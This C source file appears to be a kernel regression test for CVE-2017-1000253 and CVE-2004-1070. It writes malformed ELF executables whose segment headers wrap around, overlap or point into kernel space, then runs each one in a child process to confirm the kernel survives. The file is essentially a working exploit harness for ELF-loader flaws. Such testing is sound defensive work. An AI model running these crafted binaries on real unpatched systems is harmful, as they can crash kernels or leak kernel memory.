/* CVE: CVE-2017-1000253, CVE-2004-1070
   Wins: memory of the kernel, or a crash of it, by a program whose headers lie
   Verdict: ok
   Timeout: 120

   Programs are made whose segments wrap around, overlap, lie in the kernel, are larger than everything, name themselves as their interpreter; each is started by a child. */

#include "attack.h"

static u32 image[64];

static int starts(void)
{
	static const char *arguments[2] = { "odd", 0 };

	return sys(EXECVE, "odd", arguments, arguments + 1) ? 3 : 4;
}

static void make(u32 segments, u32 headers_at, u32 type, u32 offset, u32 vaddr, u32 in_file, u32 in_memory)
{
	static const u8 head[16] = { 0x7f, 'E', 'L', 'F', 1, 1, 1 };
	u32 i;
	int file;

	for (i = 0; i < 64; i++)
		image[i] = 0;
	for (i = 0; i < 16; i++)
		((u8 *)image)[i] = head[i];
	image[4] = 3 << 16 | 2;        /* machine, executable */
	image[5] = 1;
	image[6] = vaddr + 0x80;       /* entry */
	image[7] = headers_at;
	image[10] = 32 << 16 | 52;
	image[11] = segments;
	for (i = 0; i < 4 && i < segments; i++) {
		u32 *s = image + 13 + 8 * i;
		s[0] = i ? 1 : type;
		s[1] = offset;
		s[2] = s[3] = vaddr + i * 0x800;
		s[4] = in_file;
		s[5] = in_memory;
		s[6] = 7;
		s[7] = PAGE;
	}
	sys(UNLINK, "odd");
	file = sys(OPEN, "odd", O_RDWR | O_CREAT | O_TRUNC, 0755);
	sys(WRITE, file, image, sizeof image);
	sys(CLOSE, file);
}

/* A program that runs, beside a segment of no bytes at the very end of the address space: what comes behind all segments is where brk begins. */
static void make_nowhere(void)
{
	static const u8 code[] = { 0xb8, 45, 0, 0, 0, 0xbb, 0, 0x20, 0, 0, 0xcd, 0x80, 0x31, 0xdb, 0xb8, 1, 0, 0, 0, 0xcd, 0x80 }; /* brk(0x2000), exit(0) */
	u32 *nowhere = image + 21, i;
	int file;

	make(2, 52, 1, 0, 0x08048000, 256, 256);
	nowhere[1] = nowhere[4] = nowhere[5] = 0;
	nowhere[2] = nowhere[3] = 0xffffffff;
	for (i = 0; i < sizeof code; i++)
		((u8 *)image)[0x80 + i] = code[i];
	file = sys(OPEN, "odd", O_RDWR | O_TRUNC, 0);
	sys(WRITE, file, image, sizeof image);
	sys(CLOSE, file);
}

int attack(char **arguments, char **environment)
{
	static const u32 addresses[] = { 0, 0x1000, 0x08048000, 0x7dfff000, 0x7e000000, 0x7efff000, 0x7fffffff, 0x80000000, 0x80100000, 0xbffff000, 0xc0000000, 0xfffff000, 0xffffffff };
	static const u32 sizes[] = { 0, 1, 256, PAGE, 0x100000, 0x7fffffff, 0x80000000, 0xf8000000, 0xfffff000, 0xffffffff };
	static const u32 offsets[] = { 0, 1, 256, 0x7fffffff, 0xffffffff };
	static const u32 counts[] = { 0, 2, 4, 5, 33, 1000, 65535 };
	u32 a, i, k, o;

	sys(CHDIR, "/tmp");
	for (a = 0; a < sizeof addresses / sizeof *addresses; a++)
		for (i = 0; i < sizeof sizes / sizeof *sizes; i++) {
			k = (a + i) % (sizeof sizes / sizeof *sizes);
			for (o = 0; o < sizeof offsets / sizeof *offsets; o++) {
				make(1 + (a + o) % 4, 52, 1, offsets[o], addresses[a], sizes[i] < 256 ? sizes[i] : 200, sizes[i]);
				in_child(starts);
				make(1, 52, 1, offsets[o], addresses[a], sizes[i], sizes[k]);
				in_child(starts);
			}
		}
	for (i = 0; i < sizeof counts / sizeof *counts; i++)
		for (o = 0; o < sizeof offsets / sizeof *offsets; o++) {
			make(counts[i], offsets[o] ? offsets[o] : 52, 3, offsets[o], 0x08048000, sizes[o], sizes[i]);
			in_child(starts);
			make(counts[i], 52, 3, 0xf0, 0x08048000, 4, 4);
			in_child(starts);
		}
	make_nowhere();
	in_child(starts);
	must(sys(GETPID) > 0, "no more calls");
	return 0;
}
